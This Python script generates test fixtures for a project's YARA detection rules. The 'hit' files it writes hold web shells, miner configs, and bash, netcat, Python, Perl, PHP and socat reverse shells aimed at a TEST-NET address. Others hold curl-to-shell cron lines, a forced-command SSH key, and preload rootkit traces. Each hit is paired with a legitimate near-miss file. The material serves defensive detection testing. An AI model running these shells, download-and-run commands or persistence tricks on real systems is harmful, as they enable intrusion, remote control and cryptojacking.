#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""mkthreats.py DIR - fixtures for the project's own YARA rules (rules/*.yar).

Writes harmless text and fake-ELF files that look like the threats the
rules describe:

    DIR/hit/RULE/N/PATH    must be reported as RULE (N numbers the variants;
                           PATH is where such a file lives, because some rules
                           look at the file name or directory)
    DIR/miss/NAME/PATH     near-misses: legitimate files that must not match

Nothing here runs or connects anywhere.  Every dangerous-looking string is
assembled from pieces (the P table below) so that neither this script nor
anything in the repository matches the rules: mdescan scans its own tree.
"""
import os
import sys

# Pieces, joined at run time.
P = {
    'tcp': '/dev/' + 'tcp/',
    'udp': '/dev/' + 'udp/',
    'shi': 's' + 'h -i',
    'bashi': 'ba' + 'sh -i',
    'post': '$_' + 'POST',
    'get': '$_' + 'GET',
    'req': '$_' + 'REQUEST',
    'stratum': 'stratum' + '+tcp://',
    'stratum_ssl': 'stratum' + '+ssl://',
    'b64': 'base' + '64_decode(',
    'rt': 'getRuntime()' + '.exec(',
    'rp': 'request.' + 'getParameter(',
    'fifo': 'mk' + 'fifo ',
    'pty': 'pty.' + 'spawn(',
    'conn': '.con' + 'nect((',
    'fd': 'file' + 'no(),',
    'sockopen': 'fsock' + 'open(',
    'pre': '/etc/' + 'ld.so.preload',
}
IP = '203.0.113.' + '7'  # TEST-NET-3, never routed
ELF = b'\x7fELF\x02\x01\x01' + b'\0' * 9 + b'\x03\x00\x3e\x00' + b'\0' * 44


def elf(*strings):
    """A fake 64-bit ELF shared object holding strings (not runnable)."""
    body = b'\0'.join(s.encode() for s in strings)
    return ELF + b'\0' * 64 + body + b'\0' * 32


HITS = {
    'MDE_Webshell_PHP_Eval_Request': [
        ('var/www/html/wp-content/uploads/x.php',
         "<?php @eval(" + P['post'] + "['c']); ?>\n"),
        ('var/www/html/cmd.php',
         '<?php if (isset(' + P['get'] + '["cmd"])) { system(' + P['get'] +
         '["cmd"]); } ?>\n'),
        ('srv/www/img/logo.php',
         "<?php echo shell_exec(" + P['b64'] + P['req'] + "['x'])); ?>\n"),
    ],
    'MDE_Webshell_PHP_Obfuscated_Eval': [
        ('var/www/html/cache.php',
         "<?php eval(gz" + "inflate(" + P['b64'] + "'S0lNzs8pSgUA'))); ?>\n"),
        ('var/www/html/inc.php', "<?php\n" + "eval(str" + "_rot13('riny();'));\n"),
    ],
    'MDE_Webshell_JSP_Cmd': [
        ('var/lib/tomcat9/webapps/ROOT/cmd.jsp',
         '<%@ page import="java.io.*" %>\n<%\nString c = ' + P['rp'] +
         '"c");\nif (c != null) {\n  Process p = Runtime.' + P['rt'] +
         'c);\n  InputStream in = p.getInputStream();\n}\n%>\n'),
        ('var/lib/tomcat9/webapps/ROOT/notes.txt',
         '<% Runtime.' + P['rt'] + P['rp'] + '"c")); %>\n'),
    ],
    'MDE_Webshell_ASPX_Cmd': [
        ('var/www/site/c.aspx',
         '<%@ Page Language="Jscript"%><%eval(Re' + 'quest.Item["z"],"un' +
         'safe");%>\n'),
        ('var/www/site/run.aspx',
         '<%@ Page Language="C#" %>\n<script runat="server">\n'
         'void Page_Load(object s, EventArgs e) {\n'
         '  var i = new System.Diagnostics.Process' + 'StartInfo("cmd.exe",'
         ' "/c " + Re' + 'quest.Form["c"]);\n'
         '  System.Diagnostics.Process.Start(i);\n}\n</script>\n'),
    ],
    'MDE_Miner_XMRig_Config': [
        ('tmp/.x/config.json',
         '{\n  "autosave": true,\n  "donate-' + 'level": 1,\n  "cpu": true,\n'
         '  "randomx": {"1gb-pages": false},\n  "pools": [\n    {"url": "' +
         P['stratum'] + 'pool.example.net:3333", "user": "WALLET",'
         ' "pass": "x", "nicehash": false}\n  ]\n}\n'),
    ],
    'MDE_Miner_Stratum_URL': [
        ('tmp/.x/start.sh',
         '#!/bin/sh\ncd /tmp/.x && ./kswapd0 -o ' + P['stratum_ssl'] +
         'pool.example.net:443 -u WALLET -p x -B\n'),
    ],
    'MDE_Miner_ELF_Strings': [
        ('tmp/.x/kswapd0',
         elf('mining.' + 'subscribe', 'Random' + 'X', P['stratum'], '--help')),
    ],
    'MDE_ReverseShell_Bash_DevTcp': [
        ('tmp/rs.sh', '#!/bin/bash\n' + P['bashi'] + ' >& ' + P['tcp'] + IP +
         '/4444 0>' + '&1\n'),
        ('var/tmp/up.sh', '0<&196;exec 196<>' + P['tcp'] + IP +
         '/4444; sh <' + '&196 >&196 2>&196\n'),
        ('var/spool/cron/crontabs/www-data',
         "* * * * * /bin/bash -c '" + P['bashi'] + ' >& ' + P['udp'] + IP +
         "/53 0>" + "&1'\n"),
    ],
    'MDE_ReverseShell_Netcat': [
        ('tmp/nc.sh', '#!/bin/sh\nwhile true; do n' + 'c -e /bin/sh ' + IP +
         ' 4444; sleep 60; done\n'),
        ('tmp/f.sh', 'rm /tmp/f;' + P['fifo'] + '/tmp/f;cat /tmp/f|/bin/' +
         P['shi'] + ' 2>&1|n' + 'c ' + IP + ' 4444 >/tmp/f\n'),
        ('tmp/ncat.sh', 'nc' + 'at ' + IP + ' 4444 -e /bin/bash\n'),
    ],
    'MDE_ReverseShell_Python': [
        ('tmp/p.sh',
         "python -c 'import socket,subprocess,os;s=socket.socket(socket.AF_INET,"
         "socket.SOCK_STREAM);s" + P['conn'] + '"' + IP + '",4444));os.dup2(s.' +
         P['fd'] + '0); os.dup2(s.' + P['fd'] + '1); os.dup2(s.' + P['fd'] +
         '2);p=subprocess.call(["/bin/sh","-i"]);\'\n'),
        ('tmp/q.py',
         'import socket,os,pty\ns=socket.socket()\ns' + P['conn'] + '"' + IP +
         '",4444))\nfor f in (0,1,2): os.dup2(s.fileno(),f)\n' + P['pty'] +
         '"/bin/sh")\n'),
    ],
    'MDE_ReverseShell_Perl': [
        ('tmp/r.pl',
         'use Socket;$i="' + IP + '";$p=4444;socket(S,PF_INET,SOCK_STREAM,'
         'getprotobyname("tcp"));if(connect(S,sockaddr' + '_in($p,inet_aton($i'
         ')))){open(STD' + 'IN,">&S");open(STD' + 'OUT,">&S");open(STDERR,'
         '">&S");exec("/bin/sh -i");};\n'),
        ('tmp/s.sh',
         "perl -MIO -e '$p=fork;exit,if($p);$c=new IO::Socket::" + "INET(Peer"
         'Addr,"' + IP + ":4444\");STDIN->fd" + "open($c,r);$~->fdopen($c,w);"
         "system$_ while<>;'\n"),
    ],
    'MDE_ReverseShell_PHP': [
        ('tmp/x.sh', "php -r '$sock=" + P['sockopen'] + '"' + IP +
         '",4444);exec("/bin/' + P['shi'] + ' <&3 >' + '&3 2>&3");\'\n'),
    ],
    'MDE_ReverseShell_Socat': [
        ('tmp/so.sh', 'so' + 'cat tcp-connect:' + IP + ':4444 ex' +
         'ec:/bin/sh,pty,stderr,setsid,sigint,sane\n'),
        ('tmp/so2.sh', 'so' + "cat TCP:" + IP + ":4444 EX" + "EC:'bash -li',pty\n"),
    ],
    'MDE_Cron_Download_Pipe_Shell': [
        ('var/spool/cron/crontabs/root',
         '*/5 * * * * cu' + 'rl -fsSL http://' + IP + '/x.sh | s' + 'h\n'),
        ('etc/cron.d/sysupdate',
         'SHELL=/bin/sh\n@reboot root wg' + 'et -q -O- http://' + IP +
         '/a |ba' + 'sh\n'),
        ('etc/crontab',
         '17 * * * * root cd / && run-parts --report /etc/cron.hourly\n'
         '*/3 * * * * root echo Y3VybCBleGFtcGxlCg== | base' + '64 -d | /bin/' +
         'bash >/dev/null 2>&1\n'),
    ],
    'MDE_SSH_AuthorizedKeys_Forced_Download': [
        ('home/deploy/.ssh/authorized_keys',
         'command="cu' + 'rl -s http://' + IP + '/k.sh | sh",no-pty ssh-ed25519 '
         'AAAAC3NzaC1lZDI1NTE5AAAAIFakeFakeFakeFakeFakeFakeFakeFakeFakeFakeFake'
         ' ops@example\n'),
    ],
    'MDE_SSH_AuthorizedKeys_Botnet_Key': [
        ('root/.ssh/authorized_keys2',
         'ssh-rsa AAAAB3NzaC1yc2EAAAABJQAAAQEArDp4cun2lhr4KUhBGE7VvAcwdli2a8dbn'
         'rTOrbMz1+5O73fcBOx8NVbUT0bUanUV9tJ2/9p7+vD0EpZ3Tz/+0kX34uAx1RV/75GVO '
         'md' + 'rfckr\n'),
    ],
    'MDE_LdPreload_Suspicious_Library': [
        ('etc/ld.so.preload', '/usr/local/lib/.cache/libsystemd-core.so\n'),
        ('etc/ld.so.preload', '/dev/' + 'shm/.x/libz.so\n'),
    ],
    'MDE_Rootkit_LdPreload_ProcessHider': [
        ('usr/local/lib/libprocesshider.so',
         elf('readdir', 'dlsym', 'process_' + 'to_filter', '/proc/self/fd/%d')),
        ('lib/x86_64-linux-gnu/libsysutil.so',
         elf('readdir' + '64', 'dlsym', P['pre'], '/proc/%s/' + 'stat')),
    ],
}

MISSES = {
    'php-eval': [('var/www/html/calc.php',
                  "<?php\n// a calculator that evaluates a checked number\n"
                  "$n = intval($_POST['n'] ?? 0);\n"
                  "$r = eval('return ' . $n . ' * 2;');\n"
                  "$name = htmlspecialchars($_GET['name'] ?? '');\n"
                  "// the uptime for the status page, no user input involved\n"
                  "echo nl2br(shell_exec('uptime'));\n"
                  "echo base64_encode($name);\n")],
    'jsp': [('var/lib/tomcat9/webapps/ROOT/hello.jsp',
             '<%@ page contentType="text/html" %>\n<p>Hello, <%= ' +
             P['rp'] + '"name") %></p>\n')],
    'aspx': [('var/www/site/form.aspx',
              '<%@ Page Language="C#" %>\n<p><%= Server.HtmlEncode(Re' +
              'quest.Form["q"]) %></p>\n')],
    'crontab': [('var/spool/cron/crontabs/root',
                 '# m h dom mon dow command\n'
                 '0 3 * * * curl -fsS -o /var/backups/feed.xml https://example.org/feed.xml\n'
                 '*/10 * * * * /usr/local/bin/job.sh 2>&1 | logger -t job\n'
                 '@reboot /usr/local/bin/start-app --quiet\n'),
                ('etc/cron.d/certbot',
                 'SHELL=/bin/sh\n0 */12 * * * root test -x /usr/bin/certbot && '
                 'perl -e \'sleep int(rand(43200))\' && certbot -q renew\n')],
    'authorized_keys': [('home/backup/.ssh/authorized_keys',
                         'command="/usr/local/bin/rrsync -ro /srv/backup",restrict '
                         'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOkFake backup@nas\n'
                         'restrict,command="borg serve --restrict-to-path /srv/borg" '
                         'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOkFake2 borg@host\n'
                         'ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQFake admin@laptop\n')],
    'ld.so.preload': [('etc/ld.so.preload',
                       '/usr/lib/x86_64-linux-gnu/libjemalloc.so.2\n$LIB/libsnoopy.so\n'),
                      ('etc/ld.so.conf', 'include /etc/ld.so.conf.d/*.conf\n')],
    'bash-devtcp': [('usr/local/bin/check-port',
                     '#!/bin/bash\n# is the port open?\n'
                     'timeout 1 bash -c ": > ' + P['tcp'] + '$1/$2" 2>/dev/null && echo open\n'
                     'exec 3<>' + P['tcp'] + 'localhost/80\n'
                     'printf "GET / HTTP/1.0\\r\\n\\r\\n" >&3\n'
                     'while read -r line <&3; do echo "$line"; done\n')],
    'netcat': [('usr/local/bin/wait-db',
                '#!/bin/sh\nuntil nc -z -w 2 db.example 5432; do sleep 1; done\n'
                'echo quit | nc -q 1 localhost 25 >/dev/null 2>&1\n')],
    'python': [('usr/local/lib/client.py',
                'import os, socket, sys\n'
                'def ping(host, port):\n    s = socket.socket()\n'
                '    s' + P['conn'] + 'host, port))\n    s.sendall(b"ping")\n'
                'def daemonize(si):\n    os.dup2(si.fileno(), sys.stdin.fileno())\n')],
    'perl': [('usr/local/bin/quiet.pl',
              'use strict;\nopen(STDOUT, ">&STDERR") or die;\nprint "hi\\n";\n')],
    'php-socket': [('var/www/html/check.php',
                    '<?php $f = ' + P['sockopen'] + '"mail.example.org", 25, $e, $s, 3);\n'
                    'echo $f ? "up" : "down"; ?>\n')],
    'socat': [('etc/systemd/system/fwd.service',
               '[Service]\nExecStart=/usr/bin/socat TCP-LISTEN:8080,fork TCP:127.0.0.1:80\n')],
    'json': [('etc/app/config.json',
              '{"pools": [{"url": "postgres://db/app", "size": 10}], "nicehash": 0}\n')],
    'elf': [('usr/lib/libfine.so', elf('readdir64', 'dlsym', P['pre'], 'opendir'))],
}


def write(path, data):
    os.makedirs(os.path.dirname(path), exist_ok=True)
    if isinstance(data, str):
        data = data.encode()
    with open(path, 'wb') as fh:
        fh.write(data)


def main():
    if len(sys.argv) != 2:
        sys.exit('usage: mkthreats.py DIR')
    top = sys.argv[1]
    for rule, cases in HITS.items():
        for n, (rel, data) in enumerate(cases, 1):
            write(os.path.join(top, 'hit', rule, str(n), rel), data)
    for name, cases in MISSES.items():
        for n, (rel, data) in enumerate(cases, 1):
            write(os.path.join(top, 'miss', name, str(n), rel), data)


if __name__ == '__main__':
    main()
